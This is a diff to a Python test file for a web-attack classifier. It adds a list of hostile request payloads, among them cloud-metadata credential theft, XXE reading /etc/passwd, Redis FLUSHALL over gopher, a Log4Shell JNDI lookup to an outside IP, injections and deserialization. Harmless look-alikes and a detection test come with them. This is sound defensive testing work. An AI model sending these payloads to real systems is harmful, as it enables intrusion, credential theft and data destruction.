@@ -44,6 +44,34 @@ SAID = {
         "GET /uploads/shell.php?cmd=whoami",
     ),
 }
+UNNAMED = (  # attacks that no class names
+    "GET /index.php?page=php://filter/convert.base64-encode/resource=config.php",
+    "GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+    "GET /preview?url=gopher://127.0.0.1:6379/_FLUSHALL",
+    "GET /login?user[$ne]=x&password[$ne]=x",
+    "GET /hello?name={{request.application.__globals__.__builtins__}}",
+    'POST /import\n<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
+    "GET /people?uid=*)(uid=*))(|(uid=*",
+    "GET /go?next=/%0d%0aSet-Cookie:session=1",
+    "GET /?x=${${lower:j}ndi:ldap://203.0.113.9/a}",
+    "GET /?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp",
+    'POST /load\ndata=O:8:"Gadget_A":1:{s:4:"file";s:9:"shell.php";}',
+    'POST /api/settings\n{"__proto__":{"isAdmin":true}}',
+)
+ALIKE = (  # harmless, with their signs
+    "GET /view.php?page=resources/config-guide.php",
+    "GET /share?url=https%3A%2F%2Fnews.example%2Fworld%2Flatest",
+    "GET /login?user=anna&next=http://shop.example/account",
+    "GET /items?$filter=price gt 20&$top=10",
+    "POST /mails\nbody=Dear+{{customer.name}},+your+order+is+here",
+    'POST /import\n<?xml version="1.0"?><order><item id="7">lamp</item></order>',
+    "GET /people?name=Meyer+(Berlin)",
+    "POST /contact\ntext=First+line%0D%0Asecond+line",
+    "GET /?x=${price}",
+    "GET /docs?class=java.util.ArrayList",
+    'POST /load\ndata=a:1:{s:4:"lang";s:2:"de";}',
+    'POST /api/settings\n{"proto":{"version":"v3"}}',
+)
 
 
 @pytest.mark.parametrize("kind", KINDS)
@@ -65,6 +93,15 @@ def test_requests_written_here_get_the_right_verdict_and_reason() -> None:
     (why,) = verdicts.explain([texts.index("GET /uploads/shell.php?cmd=whoami")], top=1)
     assert why.reasons[0].field == "url.query[cmd]"
     assert why.reasons[0].weight > 0
+
+
+def test_attacks_that_no_class_names_are_seldom_called_harmless_and_what_looks_like_them_is() -> (
+    None
+):
+    scorer = Scorer.load(shipped(REQUESTS))
+    attacks, alike = (scorer.score_texts(texts) for texts in (UNNAMED, ALIKE))
+    assert ((attacks.p_attack > 0.5) | attacks.unsure).mean() > 0.9
+    assert (alike.p_attack > 0.5).mean() < 0.1
 
 
 @pytest.fixture(scope="module")
